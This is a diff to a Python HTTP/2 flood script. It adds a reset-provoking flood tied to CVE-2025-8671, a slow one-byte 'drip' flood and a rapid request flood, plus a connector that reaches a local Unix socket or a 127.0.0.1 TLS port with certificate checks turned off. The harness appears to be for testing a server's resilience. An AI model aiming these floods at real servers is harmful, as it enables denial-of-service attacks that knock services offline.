@@ -2,6 +2,7 @@
 
 import json
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -107,14 +108,71 @@ def zero_window_hold(connection):
         yield 0
 
 
+def made_resets(connection):
+    """Calls that are over for the client, spoiled so that the server resets them itself (S56, CVE-2025-8671)."""
+    stream = 1
+    while True:
+        batch = bytearray()
+        for _ in range(100):
+            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, HEADER_BLOCK)
+            batch += frame(WINDOW, 0, stream, struct.pack(">I", 2**31 - 1)) * 2
+            stream += 2
+        connection.sendall(batch)
+        yield 300
+
+
+def drips(connection):
+    """Messages that claim to be long and come one byte to a frame."""
+    for stream in range(1, 101, 2):
+        connection.sendall(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK))
+        connection.sendall(frame(0, 0, stream, b"\0" + struct.pack(">I", 1_000_000)))
+    while True:
+        connection.sendall(b"".join(frame(0, 0, stream, b"x") for stream in range(1, 101, 2)) * 20)
+        yield 1000
+
+
+def small_calls(connection):
+    """Whole and honest calls, as many as go, whose answers are read and thrown away."""
+    stream = 1
+    while True:
+        batch = bytearray()
+        for _ in range(25):
+            batch += frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK)
+            batch += frame(0, END_STREAM, stream, b"\0" + struct.pack(">I", 1) + b"x")
+            stream += 2
+        connection.sendall(batch)
+        connection.recv(65536)
+        connection.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 4096)))
+        yield 25
+
+
+def connected(target):
+    """A greeted connection to a Unix socket, or by TLS and without a certificate to "tls:PORT"."""
+    if target.startswith("tls:"):
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+        context.set_alpn_protocols(["h2"])
+        connection = socket.create_connection(("127.0.0.1", int(target[4:])), timeout=5)
+        connection = context.wrap_socket(connection)
+    else:
+        connection = socket.socket(socket.AF_UNIX)
+        connection.connect(target)
+    connection.settimeout(1)
+    return connection
+
+
 def pump(path, flood, until, outcome):
     """Run one flood until the time is up, connecting again whenever it is cut off."""
     while time.monotonic() < until:
-        connection = socket.socket(socket.AF_UNIX)
-        connection.settimeout(1)
+        try:
+            connection = connected(str(path))
+        except OSError:
+            outcome["cut"] += 1
+            time.sleep(0.02)
+            continue
         with connection:
             try:
-                connection.connect(str(path))
                 outcome["connections"] += 1
                 connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                 for count in flood(connection):
@@ -137,6 +195,9 @@ FLOODS = {
         settings_flood,
         window_overflow,
         zero_window_hold,
+        made_resets,
+        drips,
+        small_calls,
     )
 }
 
